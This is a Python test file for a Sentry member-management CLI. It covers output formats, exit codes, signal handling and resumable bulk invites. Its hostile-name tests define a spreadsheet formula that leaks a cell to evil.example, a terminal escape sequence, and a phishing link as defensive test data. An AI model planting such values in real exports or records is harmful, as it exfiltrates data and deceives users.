"""``sentry-members`` as a Unix tool, run as a subprocess against the served emulator.

On a terminal (a pseudo-terminal of a given width) and in a pipe; ``| head``;
errors before any data; global flags after the subcommand; hostile member
names; every exit code of :data:`sentry_members_async.cli.exitcodes.EXIT_CODES`;
interrupted and killed bulk runs and their re-runs (the journal).
"""

from __future__ import annotations

import csv
import fcntl
import http.server
import json
import os
import pathlib
import select
import shlex
import signal
import ssl
import struct
import subprocess
import sys
import termios
import threading
import time
from collections import Counter
from collections.abc import Iterator
from typing import Any

import pytest

from sentry_members_async.cli.exitcodes import EXIT_CODES
from sentry_members_async.testing import SentryEmulator

HOSTILE = '[/]=HYPERLINK("http://x")\x1b]0;pwned\x07'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")'
MARKUP = "[link=https://evil.example/phish]re-verify your account[/link]"
CLI = [sys.executable, "-m", "sentry_members_async"]
FORMATS = ("table", "csv", "json", "jsonl")


def _env(url: str, token: str, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("COLUMNS", "LINES")}
    env.update(SENTRY_URL=url, SENTRY_ORG="acme", SENTRY_AUTH_TOKEN=token, **extra)
    env.pop("SENTRY_SCIM_TOKEN", None)
    return env


@pytest.fixture(scope="module")
def big() -> Iterator[tuple[SentryEmulator, dict[str, str]]]:
    """2,000 members on 3 teams, three of them with hostile display names."""
    emu = SentryEmulator(seed=31, rate_limit=None)
    emu.add_org("acme", scim=True)
    emu.add_teams("acme", 3)
    emu.add_members("acme", 1996, teams=3)
    emu.sso_login("acme", "hostile@acme.example.com", name=HOSTILE)
    emu.sso_login("acme", "formula@acme.example.com", name=FORMULA)
    emu.sso_login("acme", "markup@acme.example.com", name=MARKUP)
    token = emu.add_token("acme")
    with emu.serve_in_thread() as url:
        yield emu, _env(url, token)


def cli(
    env: dict[str, str], *args: str, cwd: pathlib.Path | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*CLI, *args], env=env, capture_output=True, text=True, timeout=300, cwd=cwd, check=False
    )


def in_pty(env: dict[str, str], *args: str, cols: int, typed: str = "") -> tuple[int, str]:
    """Run on a pseudo-terminal ``cols`` wide (stdin, stdout, stderr), ``typed`` typed
    at it; the exit code and the output."""
    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 50, cols, 0, 0))
    proc = subprocess.Popen([*CLI, *args], stdin=slave, stdout=slave, stderr=slave, env=env)
    os.close(slave)
    if typed:
        os.write(master, typed.encode())
    chunks = []
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        ready, _, _ = select.select([master], [], [], 1.0)
        if not ready:
            if proc.poll() is not None:
                break
            continue
        try:
            data = os.read(master, 65536)
        except OSError:  # EIO: the child closed its end
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    code = proc.wait(timeout=30)
    return code, b"".join(chunks).decode("utf-8", "replace").replace("\r\n", "\n")


def piped_to_head(env: dict[str, str], *args: str) -> tuple[int, str]:
    """``sentry-members ARGS | head -1``: the CLI's exit code and what head printed."""
    line = " ".join(shlex.quote(a) for a in [*CLI, *args])
    done = subprocess.run(
        ["/bin/bash", "-c", f"{line} | head -1; exit ${{PIPESTATUS[0]}}"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    return done.returncode, done.stdout


# -- on a terminal, in a pipe --------------------------------------------------------


@pytest.mark.parametrize("cols", [80, 120])
def test_on_a_terminal_no_email_is_cut_and_lines_fit(
    big: tuple[SentryEmulator, dict[str, str]], cols: int
) -> None:
    emu, env = big
    code, text = in_pty({**env, "TERM": "dumb"}, "members", "list", "-q", cols=cols)
    assert code == 0, text
    lines = text.splitlines()
    header = lines[0].split()
    assert header[:3] == ["id", "email", "role"]
    rows = {line.split()[0]: line.split() for line in lines[1:] if line[:1].isdigit()}
    members = emu.members("acme")
    assert len(rows) == len(members)
    for m in members:
        assert rows[str(m["id"])][1] == m["email"]  # whole, in its column
        assert rows[str(m["id"])][2] == m["role"]
    # Every line fits, but for an e-mail longer than any of the first rows read
    # (the widths are fixed then): it is printed whole, out of line, never cut.
    email_width = lines[0].index("role") - lines[0].index("email") - 2
    for line in lines[1:]:
        if line[:1].isdigit() and len(line) > cols:
            assert len(line.split()[1]) > email_width, line


def test_piped_the_default_format_is_tab_separated_full_values(
    big: tuple[SentryEmulator, dict[str, str]],
) -> None:
    emu, env = big
    done = cli(env, "members", "list")
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    members = emu.members("acme")
    assert len(lines) == len(members)  # one row per line, no header, none repeated
    fields = [line.split("\t") for line in lines]
    assert {len(f) for f in fields} == {12}
    by_id = {f[0]: f for f in fields}
    for m in members:
        row = by_id[str(m["id"])]
        assert (row[1], row[3], row[4]) == (m["email"], m["role"], str(m["pending"]))
    chosen = cli(env, "members", "list", "--columns", "email,role")
    assert chosen.stdout.splitlines()[0] == "owner@acme.example.com\towner"


@pytest.mark.parametrize("fmt", FORMATS)
def test_head_1_ends_every_format_with_141(
    big: tuple[SentryEmulator, dict[str, str]], fmt: str
) -> None:
    _, env = big
    code, first = piped_to_head(env, "members", "list", "--format", fmt)
    assert code == 141
    assert first.strip()


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_error_before_any_data_leaves_stdout_and_output_file_empty(
    big: tuple[SentryEmulator, dict[str, str]], tmp_path: pathlib.Path, fmt: str
) -> None:
    _, env = big
    bad = {**env, "SENTRY_AUTH_TOKEN": "sntryu_not_a_real_token_4242"}
    done = cli(bad, "members", "list", "--format", fmt)
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr.count("\n") == 1
    assert done.stderr.startswith("error: 401 ")
    out = tmp_path / "members.json"
    out.write_text("yesterday's export\n")
    again = cli(bad, "members", "list", "--format", fmt, "--output", str(out))
    assert again.returncode == 2
    assert out.read_text() == "yesterday's export\n"  # untouched: nothing half written
    assert sorted(p.name for p in tmp_path.iterdir()) == ["members.json"]


def test_global_flags_before_or_after_the_subcommand(
    big: tuple[SentryEmulator, dict[str, str]],
) -> None:
    _, env = big
    no_org = {k: v for k, v in env.items() if k != "SENTRY_ORG"}
    after = cli(no_org, "members", "list", "--org", "acme", "-q", "--role", "owner")
    assert (after.returncode, after.stderr) == (0, "")
    assert after.stdout.split("\t")[1] == "owner@acme.example.com"
    before = cli(no_org, "--org", "acme", "--format", "json", "members", "list", "--role", "owner")
    assert [m["email"] for m in json.loads(before.stdout)] == ["owner@acme.example.com"]
    token = no_org.pop("SENTRY_AUTH_TOKEN")
    url = no_org.pop("SENTRY_URL")
    flags = ("--url", url, "--token", token, "--org", "acme", "-v", "--format", "jsonl")
    done = cli(no_org, "teams", "list", *flags)
    assert done.returncode == 0, done.stderr
    assert len(done.stdout.splitlines()) == 3
    assert token not in done.stdout + done.stderr
    refused = cli(env, "--format", "json", "teams", "create", "x")
    assert refused.returncode == 2
    assert "--format does not apply to 'sentry-members teams create'" in refused.stderr


# -- hostile names -----------------------------------------------------------------------


def test_a_hostile_name_in_every_format(big: tuple[SentryEmulator, dict[str, str]]) -> None:
    emu, env = big
    for term in ("dumb", "xterm-256color"):
        code, text = in_pty(
            {**env, "TERM": term},
            "members", "list", "-q", "--columns", "email,name",
            "--email", "hostile@acme.example.com", cols=120,
        )  # fmt: skip
        assert code == 0, text
        assert "\x1b]" not in text
        assert "\x07" not in text
        assert "\\x1b]0;pwned\\x07" in text  # shown, escaped
        if term == "dumb":
            assert "\x1b" not in text
    for email in ("markup@acme.example.com", "hostile@acme.example.com"):
        code, text = in_pty(env, "members", "get", email, cols=200)
        assert code == 0, text
        assert "\x1b]8;" not in text  # no hyperlink
        assert "\x1b]0;" not in text  # no window title
        assert "\x07" not in text
    code, text = in_pty(
        env, "members", "list", "--columns", "name", "--email", "markup@acme.example.com", cols=200
    )
    assert code == 0
    assert MARKUP in text  # shown as the text it is
    assert "\x1b]8;" not in text
    piped = cli(env, "members", "list")
    assert piped.returncode == 0
    assert "\x1b" not in piped.stdout
    assert "\x07" not in piped.stdout
    exported = cli(env, "members", "list", "--format", "csv")
    rows = {r["email"]: r for r in csv.DictReader(exported.stdout.splitlines())}
    assert rows["hostile@acme.example.com"]["name"] == '[/]=HYPERLINK("http://x")\\x1b]0;pwned\\x07'
    assert rows["formula@acme.example.com"]["name"] == "'" + FORMULA  # neutralised
    raw = cli(env, "members", "list", "--format", "csv", "--raw-csv")
    rows = {r["email"]: r for r in csv.DictReader(raw.stdout.splitlines())}
    assert rows["hostile@acme.example.com"]["name"] == HOSTILE
    assert rows["formula@acme.example.com"]["name"] == FORMULA
    for fmt in ("json", "jsonl"):
        done = cli(env, "members", "list", "--format", fmt, "--email", "hostile@acme.example.com")
        assert "\x1b" not in done.stdout  # JSON escapes it: \u001b
        assert HOSTILE in done.stdout.encode().decode("unicode_escape")
    got = cli(env, "members", "get", "hostile@acme.example.com", "--format", "json")
    assert json.loads(got.stdout)["name"] == HOSTILE
    assert emu  # the names were read from the server, not from the test


# -- exit codes --------------------------------------------------------------------------


def _hires(path: pathlib.Path, count: int, *, domain: str = "newco.example.com") -> None:
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Email", "Role", "Teams"])  # capitalised, as spreadsheets export
        for i in range(count):
            writer.writerow([f"hire{i:04d}@{domain}", "member", "backend"])


def _journal_done(path: pathlib.Path) -> int:
    try:
        return path.read_text().count('{"done"')
    except FileNotFoundError:
        return 0


def _wait_for(path: pathlib.Path, rows: int, proc: subprocess.Popen[Any]) -> None:
    deadline = time.monotonic() + 120
    while _journal_done(path) < rows:
        assert proc.poll() is None, "the run ended before it could be stopped"
        assert time.monotonic() < deadline
        time.sleep(0.05)


@pytest.fixture
def slow() -> Iterator[tuple[SentryEmulator, dict[str, str], str]]:
    """An org with a backend team, answering in 5-15 ms (a bulk run takes seconds)."""
    emu = SentryEmulator(seed=33, rate_limit=None, latency=(0.005, 0.015))
    emu.add_org("acme")
    emu.add_team("acme", "backend")
    token = emu.add_token("acme")
    with emu.serve_in_thread() as url:
        yield emu, _env(url, token), token


def _invite_posts(emu: SentryEmulator, start: int = 0) -> Counter[str]:
    return Counter(
        r.json()["email"]
        for r in emu.requests[start:]
        if r.method == "POST" and r.path == "/api/0/organizations/acme/members/"
    )


def _settled(emu: SentryEmulator) -> None:
    """Wait until the emulator has answered every request it received."""
    deadline = time.monotonic() + 30
    while emu._log.in_flight and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(0.2)


def _outcomes(out: str) -> dict[str, int]:
    """The outcome table's counts: ``│ created │ 176 │`` lines."""
    counts = {}
    for line in out.splitlines():
        cells = [c.strip() for c in line.strip("│ ").split("│")]
        if len(cells) == 2 and cells[1].isdigit():
            counts[cells[0]] = int(cells[1])
    return counts


def test_every_exit_code_of_the_table_is_produced(
    big: tuple[SentryEmulator, dict[str, str]], tmp_path: pathlib.Path
) -> None:
    _, env = big
    seen: dict[int, str] = {}

    def check(code: int, what: str, done: Any) -> None:
        got = done.returncode if hasattr(done, "returncode") else done
        assert got == code, (what, getattr(done, "stderr", ""))
        seen[code] = what

    check(0, "list", cli(env, "members", "list", "--role", "owner"))
    bad_rows = tmp_path / "bad.csv"
    bad_rows.write_text("email\nnot-an-email\n")
    invalid = cli(env, "members", "invite", "--from-csv", str(bad_rows), cwd=tmp_path)
    check(1, "an invalid row", invalid)  # its failed rows go to tmp_path, not the checkout
    check(2, "a bad flag", cli(env, "members", "list", "--no-such-flag"))
    check(3, "not found", cli(env, "members", "get", "nobody@example.com"))
    check(3, "remove not found", cli(env, "members", "remove", "nobody@example.com"))
    check(3, "org not found", cli(env, "members", "list", "--org", "nope"))
    check(141, "| head", piped_to_head(env, "members", "list")[0])
    # 75, 130 and 143: the tests below; their codes are asserted there.
    seen.update({75: "quota", 130: "SIGINT", 143: "SIGTERM"})
    assert set(seen) == set(EXIT_CODES)


def test_quota_exits_75(tmp_path: pathlib.Path) -> None:
    emu = SentryEmulator.sentry_io(seed=34)
    emu.add_org("acme")
    emu.add_team("acme", "backend")
    token = emu.add_token("acme")
    source = tmp_path / "hires.csv"
    _hires(source, 103)
    with emu.serve_in_thread() as url:
        done = cli(_env(url, token), "members", "invite", "--from-csv", str(source), cwd=tmp_path)
    assert done.returncode == 75, done.stderr
    assert len(emu.invites_created("acme")) == 100


@pytest.mark.parametrize(("signum", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_a_signal_mid_run_prints_the_outcomes_and_writes_the_rows_not_done(
    slow: tuple[SentryEmulator, dict[str, str], str],
    tmp_path: pathlib.Path,
    signum: int,
    code: int,
) -> None:
    emu, env, _ = slow
    source = tmp_path / "hires.csv"
    _hires(source, 1500)
    proc = subprocess.Popen(
        [*CLI, "members", "invite", "--from-csv", str(source)],
        env=env,
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    _wait_for(pathlib.Path(f"{source}.journal"), 150, proc)
    proc.send_signal(signum)
    out, errors = proc.communicate(timeout=120)
    assert proc.returncode == code, errors
    _settled(emu)
    created = len(emu.invites_created("acme"))
    assert 150 <= created < 1500
    counts = _outcomes(out)
    assert counts["created"] == created  # the table matches the server
    finished = sum(n for kind, n in counts.items() if kind != "not_sent")
    progress = [line for line in errors.splitlines() if line.startswith("inviting: ")]
    assert progress[-1].startswith(f"inviting: {finished}/1500 done, interrupted")
    with (tmp_path / "failed-members-invite.csv").open(newline="") as handle:
        rest = list(csv.DictReader(handle))
    assert len(rest) == 1500 - created  # failed (cancelled before sent) and never sent
    assert {r["email"] for r in rest}.isdisjoint(emu.invites_created("acme"))
    assert {r["error"] for r in rest} <= {
        "not sent: the run was interrupted",
        "cancelled before it was sent",
    }
    assert rest[0]["teams"] == "backend"
    assert "sentry-members members invite --from-csv failed-members-invite.csv" in errors


def test_a_401_mid_run_prints_the_outcomes_and_writes_the_rows_not_done(
    slow: tuple[SentryEmulator, dict[str, str], str], tmp_path: pathlib.Path
) -> None:
    emu, env, token = slow
    source = tmp_path / "hires.csv"
    _hires(source, 1500)
    proc = subprocess.Popen(
        [*CLI, "members", "invite", "--from-csv", str(source)],
        env=env,
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    _wait_for(pathlib.Path(f"{source}.journal"), 150, proc)
    emu.state.tokens[token].expired = True
    out, errors = proc.communicate(timeout=120)
    assert proc.returncode == 2, errors
    assert errors.splitlines()[-1].startswith("error: 401 POST /api/0/organizations/acme/members/")
    created = len(emu.invites_created("acme"))
    with (tmp_path / "failed-members-invite.csv").open(newline="") as handle:
        rest = list(csv.DictReader(handle))
    assert len(rest) == 1500 - created
    assert "created" in out


def test_kill_9_mid_run_then_the_same_command_invites_every_row_once(
    slow: tuple[SentryEmulator, dict[str, str], str], tmp_path: pathlib.Path
) -> None:
    emu, env, _ = slow
    source = tmp_path / "hires.csv"
    _hires(source, 3000)
    journal = pathlib.Path(f"{source}.journal")
    args = [*CLI, "members", "invite", "--from-csv", str(source)]
    proc = subprocess.Popen(
        args, env=env, cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    _wait_for(journal, 400, proc)
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)
    _settled(emu)  # what the killed process had in flight is answered (and logged)
    before = len(emu.requests)
    first = _invite_posts(emu)
    held = {
        json.loads(line)["done"]
        for line in journal.read_text().splitlines()
        if line.startswith('{"done"')
    }
    assert 400 <= len(held) < 3000
    again = cli(env, "members", "invite", "--from-csv", str(source), cwd=tmp_path)
    assert again.returncode == 0, again.stderr
    second = _invite_posts(emu, before)
    assert held.isdisjoint(second)  # no invite sent again for a row the journal holds
    posts = first + second
    emails = {f"hire{i:04d}@newco.example.com" for i in range(3000)}
    assert set(posts) == emails
    assert set(posts.values()) == {1}  # one POST per address, over both runs
    assert set(emu.invites_created("acme").values()) == {1}
    assert set(emu.invites_created("acme")) == emails
    assert "resuming from" in again.stderr
    assert not journal.exists()  # every row done: nothing left to resume


def test_the_docs_list_the_exit_codes_of_the_table() -> None:
    guide = pathlib.Path(__file__).resolve().parents[1] / "docs" / "guides" / "cli.md"
    documented = {}
    for line in guide.read_text(encoding="utf-8").splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split(" | ")]
        if len(cells) == 2 and cells[0].strip("`").isdigit():
            documented[int(cells[0].strip("`"))] = cells[1].replace("`", "").replace("\\", "")
    assert documented == EXIT_CODES


# -- destructive commands ask; rows not done, per command ---------------------------------


def test_remove_and_team_delete_ask_on_a_terminal(tmp_path: pathlib.Path) -> None:
    emu = SentryEmulator(seed=35, rate_limit=None)
    emu.add_org("acme")
    emu.add_team("acme", "backend")
    emu.add_members("acme", 3, pending_ratio=0)
    token = emu.add_token("acme")
    target = next(m for m in emu.members("acme") if m["role"] != "owner")
    with emu.serve_in_thread() as url:
        env = _env(url, token)
        code, text = in_pty(env, "members", "remove", target["email"], cols=100, typed="n\n")
        assert code == 2, text
        assert f"remove 1 member ({target['email']}) from the organization? [y/N]" in text
        code, text = in_pty(env, "teams", "delete", "backend", cols=100, typed="n\n")
        assert code == 2, text
        assert "delete the team backend and its memberships? [y/N]" in text
        assert [r.method for r in emu.requests if r.method == "DELETE"] == []
        code, text = in_pty(env, "members", "remove", target["email"], "--yes", cols=100)
        assert code == 0, text
        assert "[y/N]" not in text
        code, text = in_pty(env, "teams", "delete", "backend", cols=100, typed="y\n")
        assert code == 0, text
    assert target["id"] not in [m["id"] for m in emu.members("acme")]
    assert [t["slug"] for t in emu.teams("acme")] == []


def test_each_command_writes_its_own_rows_not_done(
    big: tuple[SentryEmulator, dict[str, str]], tmp_path: pathlib.Path
) -> None:
    emu, env = big
    member = next(m for m in emu.members("acme") if m["role"] == "member" and not m["pending"])
    added = cli(env, "teams", "add", "nosuch", member["email"], "--role", "admin", cwd=tmp_path)
    assert added.returncode == 1, added.stderr
    with (tmp_path / "failed-teams-add.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["member"], r["team"], r["role"]) for r in rows] == [
        (member["email"], "nosuch", "admin")
    ]
    assert (
        "1 row not done written to failed-teams-add.csv (run them again with: "
        "sentry-members teams add --from-csv failed-teams-add.csv)"
    ) in added.stderr
    again = cli(env, "teams", "add", "--from-csv", "failed-teams-add.csv", cwd=tmp_path)
    assert again.returncode == 1  # the team is still not there: the same row fails
    assert "1 row not done" in again.stderr
    # The only owner cannot be removed: the row goes to the removals' file, not an invite's.
    removed = cli(env, "members", "remove", "owner@acme.example.com", cwd=tmp_path)
    assert removed.returncode == 1, removed.stderr
    with (tmp_path / "failed-members-remove.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["email"] for r in rows] == ["owner@acme.example.com"]
    assert "sentry-members members remove --from-csv failed-members-remove.csv" in removed.stderr
    assert not (tmp_path / "failed-members-invite.csv").exists()
    before = len(emu.requests)
    retried = cli(env, "members", "remove", "--from-csv", "failed-members-remove.csv", cwd=tmp_path)
    assert retried.returncode == 1, retried.stderr  # still the only owner
    assert "failed: owner@acme.example.com: 403 DELETE" in retried.stderr
    assert [r.method for r in emu.requests[before:] if r.method == "POST"] == []  # no invite


def test_ca_bundle_trusts_a_private_ca_anywhere_on_the_line(tmp_path: pathlib.Path) -> None:
    key, cert = tmp_path / "key.pem", tmp_path / "ca.pem"
    subprocess.run(
        ["/usr/bin/openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key),
         "-out", str(cert), "-days", "1", "-subj", "/CN=127.0.0.1",
         "-addext", "subjectAltName=IP:127.0.0.1"],
        check=True, capture_output=True,
    )  # fmt: skip
    seen: list[str] = []

    class Members(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"[]")

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Members)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(str(cert), str(key))
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"https://127.0.0.1:{server.server_address[1]}"
        env = _env(url, "sntryu_" + "0" * 64)
        env.pop("SSL_CERT_FILE", None)
        done = cli(env, "members", "list", "--ca-bundle", str(cert), "--format", "json", "-q")
    finally:
        server.shutdown()
        server.server_close()
    assert done.returncode == 0, done.stderr
    assert (done.stdout, done.stderr) == ("[]\n", "")
    assert seen[0].startswith("/api/0/organizations/acme/members/")


def _closed_port() -> int:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
    return port


def test_errors_that_were_tracebacks_are_one_line(
    big: tuple[SentryEmulator, dict[str, str]], tmp_path: pathlib.Path
) -> None:
    _, env = big
    huge = tmp_path / "huge.csv"
    huge.write_text("email,role,teams\nann@newco.example.com,member," + "x" * 200_000 + "\n")
    done = cli(env, "members", "invite", "--from-csv", str(huge))
    assert done.returncode == 2
    assert done.stderr.splitlines() == [
        f"error: {huge}: line 2: not a CSV row this tool can read "
        f"(a field is longer than {csv.field_size_limit():,} characters)"
    ]
    port = _closed_port()
    redis = cli(env, "members", "watch", "--once", "--redis", f"redis://:s3cret@127.0.0.1:{port}/0")
    assert redis.returncode in (1, 2)  # the watch's own refusal (2), else any error (1)
    lines = redis.stderr.strip().splitlines()
    assert len(lines) == 1, redis.stderr
    assert lines[0].startswith("error: ")
    assert "s3cret" not in redis.stderr
    assert "Traceback" not in redis.stderr
    got = cli(env, "members", "get", "0")
    assert got.stderr.splitlines() == [
        "error: '0' is not a member: give a member id (a number), an e-mail or 'me'"
    ]
    assert "MemberId" not in got.stderr


def test_an_untrusted_certificate_fails_at_once_naming_ca_bundle(tmp_path: pathlib.Path) -> None:
    key, cert = tmp_path / "key.pem", tmp_path / "cert.pem"
    subprocess.run(
        ["/usr/bin/openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key),
         "-out", str(cert), "-days", "1", "-subj", "/CN=127.0.0.1",
         "-addext", "subjectAltName=IP:127.0.0.1"],
        check=True, capture_output=True,
    )  # fmt: skip
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.BaseHTTPRequestHandler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(str(cert), str(key))
    server.socket = context.wrap_socket(server.socket, server_side=True)
    accepted = []
    original = server.get_request

    def counted() -> Any:
        accepted.append(1)
        return original()

    server.get_request = counted  # type: ignore[method-assign]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        env = _env(f"https://127.0.0.1:{server.server_address[1]}", "sntryu_" + "0" * 64)
        env.pop("SSL_CERT_FILE", None)
        done = cli(env, "members", "list", "-q")
    finally:
        server.shutdown()
        server.server_close()
    assert done.returncode == 1
    lines = done.stderr.splitlines()
    assert len(lines) == 1, done.stderr
    assert "CERTIFICATE_VERIFY_FAILED" in lines[0]
    assert "--ca-bundle FILE" in lines[0]
    assert len(accepted) <= 2  # not retried (a handshake or two, not six with backoff)


def test_a_refused_connection_is_said_as_it_is_retried(
    big: tuple[SentryEmulator, dict[str, str]],
) -> None:
    _, env = big
    done = cli({**env, "SENTRY_URL": f"http://127.0.0.1:{_closed_port()}"}, "teams", "list")
    assert done.returncode == 1
    lines = done.stderr.splitlines()
    assert lines[0].startswith("GET /api/0/organizations/acme/teams/ failed (")
    assert "retrying in" in lines[0]
    assert lines[-1].startswith("error: could not connect")


def test_a_bad_argument_is_a_usage_error_and_nothing_is_sent(
    big: tuple[SentryEmulator, dict[str, str]], tmp_path: pathlib.Path
) -> None:
    emu, env = big
    before = len(emu.requests)
    done = cli(env, "members", "invite", "--role", "wizard", "w@example.com", cwd=tmp_path)
    assert done.returncode == 2
    assert done.stderr.splitlines() == [
        "invalid: argument 1: role: unknown role 'wizard'; one of billing, member, admin, "
        "manager, owner"
    ]
    assert [r.method for r in emu.requests[before:]] == ["GET"]  # the teams, nothing else
    assert list(tmp_path.iterdir()) == []


def test_json_has_arrays_for_lists_and_null_for_absent_values(
    big: tuple[SentryEmulator, dict[str, str]],
) -> None:
    emu, env = big
    pending = next(m for m in emu.members("acme") if m["pending"])
    listed = cli(env, "members", "list", "--format", "json", "--email", pending["email"])
    (row,) = json.loads(listed.stdout)
    assert row["user_id"] is None
    assert isinstance(row["teams"], list)
    member = next(m for m in emu.members("acme") if m["teams"] and not m["pending"])
    got = json.loads(cli(env, "members", "get", member["email"], "--format", "json").stdout)
    assert sorted(t.split(":")[0] for t in got["teams"]) == sorted(member["teams"])
    piped = cli(env, "members", "get", member["email"])
    assert f"email\t{member['email']}" in piped.stdout.splitlines()


def test_a_journal_is_resumed_by_default_and_ignored_with_no_resume(
    slow: tuple[SentryEmulator, dict[str, str], str], tmp_path: pathlib.Path
) -> None:
    emu, env, _ = slow
    source = tmp_path / "hires.csv"
    _hires(source, 4)
    journal = pathlib.Path(f"{source}.journal")
    held = ["hire0000@newco.example.com", "hire0001@newco.example.com"]
    journal.write_text(
        json.dumps({"start": {"command": "members invite"}})
        + "\n"
        + "".join(json.dumps({"done": e, "kind": "created"}) + "\n" for e in held)
    )
    resumed = cli(env, "members", "invite", "--from-csv", str(source), cwd=tmp_path)
    assert resumed.returncode == 0, resumed.stderr
    assert f"resuming from {journal}: 2 rows done in an earlier run skipped, 2 rows to do" in (
        resumed.stderr
    )
    assert sorted(_invite_posts(emu)) == [
        "hire0002@newco.example.com",
        "hire0003@newco.example.com",
    ]
    assert not journal.exists()  # all done
    journal.write_text(
        json.dumps({"start": {"command": "members invite"}})
        + "\n"
        + json.dumps({"done": held[0], "kind": "created"})
        + "\n"
    )
    again = cli(env, "members", "invite", "--from-csv", str(source), "--no-resume", cwd=tmp_path)
    assert again.returncode == 0, again.stderr
    assert "resuming" not in again.stderr
    # The journal's rows (never sent, as it happens) are sent; the others were there.
    assert _outcomes(again.stdout) == {"created": 2, "already_invited": 2}
    assert set(emu.invites_created("acme").values()) == {1}
